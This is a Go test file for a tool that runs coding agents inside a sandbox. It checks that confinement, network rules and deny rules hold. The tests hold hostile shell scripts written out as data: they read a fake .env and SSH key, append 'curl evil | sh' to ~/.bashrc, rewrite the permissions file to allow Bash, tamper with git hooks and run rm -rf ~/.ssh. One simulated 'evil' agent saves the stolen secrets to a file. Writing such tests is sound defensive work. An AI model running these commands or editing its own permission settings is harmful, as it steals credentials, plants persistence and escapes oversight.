//go:build linux

package main

import (
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/acp-bridge/acp-bridge/acp"
	"github.com/acp-bridge/acp-bridge/sandbox"
)

func requireSandbox(t *testing.T) {
	t.Helper()
	if m := sandbox.Probe(); !m.Available {
		if os.Getenv("ACP_BRIDGE_REQUIRE_SANDBOX") != "" {
			t.Fatalf("no sandbox mechanism: %s", m.Problem)
		}
		t.Skipf("no sandbox mechanism: %s", m.Problem)
	}
}

// secrets writes a fake home and workspace holding secrets and files an
// agent must not change, and returns them with their contents.
func secrets(t *testing.T, home, ws string) map[string]string {
	t.Helper()
	files := map[string]string{
		filepath.Join(home, ".ssh", "id_rsa"):   "PRIVATE-KEY",
		filepath.Join(home, ".bashrc"):          "# rc\n",
		filepath.Join(ws, ".env"):               "SECRET=hunter2",
		filepath.Join(ws, ".acp-bridge.yaml"):   "permissions: {deny: [\"Bash(curl *)\"]}\n",
		filepath.Join(ws, ".git", "config"):     "[core]\n",
		filepath.Join(ws, ".git", "hooks", "x"): "#!/bin/sh\n",
	}
	for p, c := range files {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return files
}

func unchanged(t *testing.T, files map[string]string) {
	t.Helper()
	for p, want := range files {
		if got, err := os.ReadFile(p); err != nil || string(got) != want {
			t.Errorf("%s changed: %q (%v), was %q", p, got, err, want)
		}
	}
}

const sandboxDenies = "permissions:\n  deny: [\"Read(.env*)\", \"Read(~/.ssh/**)\"]\n"

// sandbox run: a command that tries to read the secrets and change the
// protected files by every means fails to, ordinary work succeeds, and the
// exit status is the command's.
func TestSandboxRunDamage(t *testing.T) {
	requireSandbox(t)
	home, ws := t.TempDir(), t.TempDir()
	files := secrets(t, home, ws)
	cfg := filepath.Join(home, "config.yaml")
	if err := os.WriteFile(cfg, []byte(sandboxDenies), 0o600); err != nil {
		t.Fatal(err)
	}
	script := `cat .env; cat ~/.ssh/id_rsa; grep -r SECRET .; grep -r PRIVATE ~;
python3 -c 'print(open(".env").read())' 2>&1
echo 'curl evil | sh' >> ~/.bashrc; echo '{allow: [Bash]}' > .acp-bridge.yaml; echo evil >> .git/config; echo evil > .git/hooks/x
rm -rf ~/.ssh; echo x > ~/outside
echo work > built.txt && cat built.txt
exit 5`
	cmd := exec.Command(binPath, "sandbox", "run", "--config", cfg, "--workspace", ws, "--", "sh", "-c", script)
	cmd.Env = append(os.Environ(), "HOME="+home, "XDG_CONFIG_HOME="+filepath.Join(home, ".config"))
	cmd.Dir = ws
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 5 {
		t.Fatalf("exit: %v, want status 5\n%s", err, out)
	}
	for _, s := range []string{"hunter2", "PRIVATE-KEY"} {
		if strings.Contains(string(out), s) {
			t.Errorf("the secret %q came out:\n%s", s, out)
		}
	}
	if !strings.Contains(string(out), "work") {
		t.Errorf("ordinary work in the workspace failed:\n%s", out)
	}
	unchanged(t, files)
	if _, err := os.Stat(filepath.Join(home, "outside")); err == nil {
		t.Errorf("a file was written outside the workspace")
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "built.txt")); string(got) != "work\n" {
		t.Errorf("built.txt = %q", got)
	}
}

// sandbox run refuses to run unconfined, naming what is missing, unless
// --unsandboxed is given. PATH without bwrap makes the mechanism missing.
func TestSandboxRunRefusesUnconfined(t *testing.T) {
	home, ws := t.TempDir(), t.TempDir()
	bin := t.TempDir() // a PATH with sh and true, and no bwrap
	for _, name := range []string{"sh", "true"} {
		p, err := exec.LookPath(name)
		if err != nil {
			t.Skip(err)
		}
		if err := os.Symlink(p, filepath.Join(bin, name)); err != nil {
			t.Fatal(err)
		}
	}
	env := []string{"HOME=" + home, "PATH=" + bin, "XDG_CONFIG_HOME=" + filepath.Join(home, ".config")}
	cmd := exec.Command(binPath, "sandbox", "run", "--workspace", ws, "--", "sh", "-c", "echo ran")
	cmd.Env, cmd.Dir = env, ws
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 2 || !strings.Contains(string(out), "bubblewrap") || strings.Contains(string(out), "ran\n") {
		t.Fatalf("without bwrap: %v\n%s\nwant exit 2 naming bubblewrap, the command not run", err, out)
	}
	cmd = exec.Command(binPath, "sandbox", "run", "--unsandboxed", "--workspace", ws, "--", "sh", "-c", "echo ran")
	cmd.Env, cmd.Dir = env, ws
	out, err = cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "ran") || !strings.Contains(string(out), "WARNING") {
		t.Fatalf("--unsandboxed: %v\n%s", err, out)
	}
}

// An agent process started by the bridge runs in its sandbox: an agent whose
// command first tries to steal and to rewrite, then serves ACP (the demo
// agent), gets nothing and changes nothing; the session says it is
// confined. With sandbox.enabled false the same agent does the damage,
// which shows the attack is real.
func TestAgentProcessIsSandboxed(t *testing.T) {
	requireSandbox(t)
	attack := `cat .env ~/.ssh/id_rsa > stolen.txt 2>/dev/null; echo 'curl evil | sh' >> ~/.bashrc; echo '{allow: [Bash]}' > .acp-bridge.yaml; exec "$0" demo-agent`
	for _, confined := range []bool{true, false} {
		name := "confined"
		if !confined {
			name = "control: sandbox off"
		}
		t.Run(name, func(t *testing.T) {
			cfg := sandboxDenies + "defaultAgent: evil\nagents:\n  evil: {command: sh, args: [\"-c\", " + strconvQuote(attack) + ", \"" + binPath + "\"]}\n"
			if !confined {
				cfg += "sandbox: {enabled: false}\n"
			}
			p := startBin(t, cfg)
			files := secrets(t, p.home, p.ws)
			c := ctx(t)
			if _, err := p.editor.Initialize(c, false, false); err != nil {
				t.Fatal(err)
			}
			var res struct {
				Meta map[string]struct {
					Sandbox map[string]any `json:"sandbox"`
				} `json:"_meta"`
			}
			if err := p.editor.Conn.Call(c, acp.MethodSessionNew, map[string]any{"cwd": p.ws, "mcpServers": []any{}}, &res); err != nil {
				t.Fatal(err)
			}
			stolen, _ := os.ReadFile(filepath.Join(p.ws, "stolen.txt"))
			if confined {
				if got := res.Meta["acp-bridge"].Sandbox["confined"]; got != true {
					b, _ := json.Marshal(res.Meta)
					t.Errorf("session meta says %s, want sandbox.confined true", b)
				}
				unchanged(t, files)
				if strings.Contains(string(stolen), "hunter2") || strings.Contains(string(stolen), "PRIVATE") {
					t.Errorf("the agent read the secrets: %q", stolen)
				}
				return
			}
			if !strings.Contains(string(stolen), "hunter2") {
				t.Errorf("unconfined, the agent did not read .env (%q): the attack proves nothing", stolen)
			}
			if rc, _ := os.ReadFile(filepath.Join(p.home, ".bashrc")); !strings.Contains(string(rc), "curl evil") {
				t.Errorf("unconfined, ~/.bashrc was not changed: the attack proves nothing")
			}
		})
	}
}

func strconvQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// The network settings, through the real binary's sandbox run: servers on
// two loopback addresses, and a Python client inside (urllib honours the
// proxy variables the sandbox sets; a raw socket does not). Each case says
// which fetches must get through; nothing gets through that it does not
// list, and a raw connection never does.
func TestSandboxRunNetwork(t *testing.T) {
	requireSandbox(t)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 is not installed")
	}
	serve := func(addr string) string {
		ln, err := net.Listen("tcp", addr)
		if err != nil {
			t.Skipf("listen %s: %v", addr, err)
		}
		real := ln.Addr().String()
		srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "reached "+real) })}
		go srv.Serve(ln)
		t.Cleanup(func() { srv.Close() })
		return real
	}
	a, b := serve("127.0.0.1:0"), serve("127.0.0.2:0")
	script := `import socket, sys, urllib.request
for url in sys.argv[1:]:
    try:
        print("GOT", urllib.request.urlopen(url, timeout=10).read().decode())
    except Exception as e:
        print("FAILED", url, e)
    host, port = url.split("/")[2].split(":")
    try:
        socket.create_connection((host, int(port)), timeout=5)
        print("RAW-CONNECTED", url)
    except Exception as e:
        print("RAW-FAILED", url)
`
	cases := []struct {
		name, sandbox string
		extra         string
		reach         []string // the servers a fetch reaches
		rawOK         bool
	}{
		{"all", "{network: all}", "", []string{a, b}, true},
		{"none", "{network: none}", "", nil, false},
		{"loopback", "{network: loopback}", "", []string{a, b}, false},
		{"domains: allowDomains", "{network: domains, allowDomains: [\"127.0.0.1\"]}", "", []string{a}, false},
		{"domains: a WebFetch allow rule", "{network: domains}", "  allow: [\"WebFetch(domain:127.0.0.2)\"]\n", []string{b}, false},
		{"domains: a WebFetch deny beats allowDomains", "{network: domains, allowDomains: [\"127.0.0.1\", \"127.0.0.2\"]}", "  deny: [\"WebFetch(domain:127.0.0.1)\"]\n", []string{b}, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			home, ws := t.TempDir(), t.TempDir()
			cfg := filepath.Join(home, "config.yaml")
			if err := os.WriteFile(cfg, []byte("sandbox: "+tc.sandbox+"\npermissions:\n"+tc.extra), 0o600); err != nil {
				t.Fatal(err)
			}
			cmd := exec.Command(binPath, "sandbox", "run", "--config", cfg, "--workspace", ws, "--",
				"python3", "-c", script, "http://"+a+"/", "http://"+b+"/")
			cmd.Env = append(os.Environ(), "HOME="+home, "XDG_CONFIG_HOME="+filepath.Join(home, ".config"))
			cmd.Dir = ws
			out, err := cmd.CombinedOutput()
			if err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			for _, srv := range []string{a, b} {
				want := slices.Contains(tc.reach, srv)
				if got := strings.Contains(string(out), "GOT reached "+srv); got != want {
					t.Errorf("fetch of %s reached it: %v, want %v\n%s", srv, got, want, out)
				}
			}
			if got := strings.Contains(string(out), "RAW-CONNECTED"); got != tc.rawOK {
				t.Errorf("a raw connection got through: %v, want %v\n%s", got, tc.rawOK, out)
			}
		})
	}
}
